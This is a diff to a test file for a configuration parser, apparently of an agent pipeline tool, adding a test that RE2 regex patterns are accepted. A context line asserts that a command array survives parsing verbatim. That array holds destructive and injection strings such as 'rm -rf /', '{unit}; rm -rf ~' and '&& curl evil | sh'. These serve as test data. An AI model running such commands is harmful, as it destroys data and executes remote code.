@@ -183,3 +183,11 @@ sources: {checkpoint: status/checkpoint.md, resume: RESUME.md, todos: .checkroom
     expect(cfg.agents.writer.command).toEqual(['sh', '-c', 'echo "$(rm -rf /)"; `id`', '{unit}; rm -rf ~', '&& curl evil | sh', '$HOME', "a'b"]);
   });
 });
+
+describe('patterns are RE2 (issue 16 item 3)', () => {
+  it('takes RE2 syntax V8 refuses: (?P<name>…) groups in todo_pattern, POSIX classes in units.pattern', () => {
+    const cfg = parse("sources:\n  todo_pattern: '^(?P<unit>ch\\d+)-(?P<step>[a-z0-9]+)$'\nunits:\n  pattern: 'ch[[:digit:]]{2,3}'\n");
+    expect(cfg.sources.todoPattern).toBe('^(?P<unit>ch\\d+)-(?P<step>[a-z0-9]+)$');
+    expect(cfg.pipeline.units.pattern).toBe('ch[[:digit:]]{2,3}');
+  });
+});
